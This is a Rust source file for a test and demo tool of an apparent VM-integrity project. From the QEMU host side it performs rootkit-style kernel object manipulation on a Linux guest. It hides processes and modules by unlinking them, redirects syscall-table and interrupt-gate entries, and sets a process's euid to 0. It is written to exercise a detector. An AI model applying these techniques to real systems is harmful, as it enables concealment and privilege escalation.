//! `vmseal-rootkit`: what a kernel rootkit does to a running Linux guest, done from the host side
//! through QEMU's memory file — for vmseal's end-to-end tests and its kernel-objects demo only.
//!
//! Each attack is a direct kernel object manipulation, made with the guest paused and left in
//! place when it runs on (as a rootkit leaves it): a process unlinked from the task list, a
//! module unlinked from the module list, a system-call table slot or an interrupt gate pointed
//! into kernel data, a process's effective uid set to 0. The structures are found with the same
//! kernel profile (from the guest's bzImage) and symbols vmseal's capture uses.

use std::path::PathBuf;

use anyhow::{Context, Result, bail};
use clap::{Parser, Subcommand};
use vmseal_capture::kernel::KernelProfile;
use vmseal_capture::policy::SymbolMap;
use vmseal_capture::source::{GuestMemory, Pausable};
use vmseal_host::qemu::QemuSource;

/// Rootkit attacks on a running Linux guest under QEMU, from the host side (tests and demos
/// only).
#[derive(Parser)]
#[command(version, about, long_about = None)]
struct Args {
    /// The guest: `QMP_SOCKET,MEM_FILE[,MEMDEV_ID]` (as `vmseal-host capture --source qemu:…`).
    #[arg(long)]
    qemu: String,
    /// The guest's bzImage (its BTF gives the structure layout).
    #[arg(long)]
    kernel: PathBuf,
    /// The running kernel's symbols (System.map format, e.g. its /proc/kallsyms) [default: the
    /// kernel's own table, decoded from --kernel, moved by the guest's KASLR slide].
    #[arg(long)]
    symbols: Option<PathBuf>,
    #[command(subcommand)]
    attack: Attack,
}

#[derive(Subcommand)]
enum Attack {
    /// Unlink a process from the task list (it keeps running, hidden from ps).
    HideProcess {
        /// Its pid.
        pid: i32,
    },
    /// Unlink a module from the module list (hidden from lsmod; /sys/module keeps it).
    HideModule {
        /// Its name.
        name: String,
    },
    /// Point a system-call table slot into kernel data.
    HookSyscall {
        /// The slot (system-call number).
        nr: u64,
    },
    /// Point an interrupt gate into kernel data.
    HookGate {
        /// The vector (0-255).
        vector: u8,
    },
    /// Set a process's effective uid to 0 (root).
    RaiseEuid {
        /// Its pid.
        pid: i32,
    },
}

fn main() -> Result<()> {
    let a = Args::parse();
    let vmlinux = vmseal_capture::kaslr::decompress_bzimage(&std::fs::read(&a.kernel)?)?;
    let profile = KernelProfile::from_vmlinux(&vmlinux)?;
    let mut src = QemuSource::open(&a.qemu)?;
    src.refresh_paging()?;
    let symbols = match &a.symbols {
        Some(p) => SymbolMap::parse(&std::fs::read_to_string(p)?)
            .with_context(|| format!("{}", p.display()))?,
        None => src.kernel_symbols(&vmlinux).map_err(anyhow::Error::msg)?,
    };
    let sym = |n: &str| {
        symbols
            .get(n)
            .with_context(|| format!("the kernel's symbols have no {n}"))
    };
    let off = |f: &str| {
        profile
            .offset(f)
            .with_context(|| format!("the profile has no {f}"))
    };
    src.pause()?;
    let done = attack(&a.attack, &src, &profile, &sym, &off);
    src.resume()?;
    println!("{}", done?);
    Ok(())
}

fn attack(
    a: &Attack,
    src: &QemuSource,
    profile: &KernelProfile,
    sym: &dyn Fn(&str) -> Result<u64>,
    off: &dyn Fn(&str) -> Result<u64>,
) -> Result<String> {
    let write = |va: u64, bytes: &[u8]| -> Result<()> {
        src.write(src.virt_to_phys(va)?, bytes)?;
        Ok(())
    };
    let read_u64 = |va: u64| -> Result<u64> {
        let mut b = [0u8; 8];
        src.read(src.virt_to_phys(va)?, &mut b)?;
        Ok(u64::from_le_bytes(b))
    };
    // A list_del without the poisoning: the neighbours point past the node.
    let unlink = |node: u64| -> Result<()> {
        let (next, prev) = (read_u64(node)?, read_u64(node + 8)?);
        write(prev, &next.to_le_bytes())?;
        write(next + 8, &prev.to_le_bytes())
    };
    let task = |pid: i32| -> Result<u64> {
        profile
            .task_address(src, sym("init_task")?, pid)?
            .with_context(|| format!("no process {pid} on the task list"))
    };
    Ok(match a {
        Attack::HideProcess { pid } => {
            unlink(task(*pid)? + off("task_struct.tasks")?)?;
            format!("process {pid} unlinked from the task list")
        }
        Attack::HideModule { name } => {
            let m = profile
                .module_address(src, sym("modules")?, name)?
                .with_context(|| format!("no module {name} on the module list"))?;
            unlink(m + off("module.list")?)?;
            format!("module {name} unlinked from the module list")
        }
        Attack::HookSyscall { nr } => {
            if *nr >= 1024 {
                bail!("system call {nr} is beyond the table");
            }
            let to = sym("init_task")?;
            write(sym("sys_call_table")? + nr * 8, &to.to_le_bytes())?;
            format!("system call {nr} now points at {to:#x} (kernel data)")
        }
        Attack::HookGate { vector } => {
            let to = sym("init_task")?;
            let gate = sym("idt_table")? + u64::from(*vector) * 16;
            let mut d = [0u8; 16];
            src.read(src.virt_to_phys(gate)?, &mut d)?;
            d[0..2].copy_from_slice(&(to as u16).to_le_bytes());
            d[6..8].copy_from_slice(&((to >> 16) as u16).to_le_bytes());
            d[8..12].copy_from_slice(&((to >> 32) as u32).to_le_bytes());
            write(gate, &d)?;
            format!("gate {vector} now points at {to:#x} (kernel data)")
        }
        Attack::RaiseEuid { pid } => {
            let cred = read_u64(task(*pid)? + off("task_struct.cred")?)?;
            write(cred + off("cred.euid")?, &0u32.to_le_bytes())?;
            format!("process {pid} now runs with euid 0")
        }
    })
}
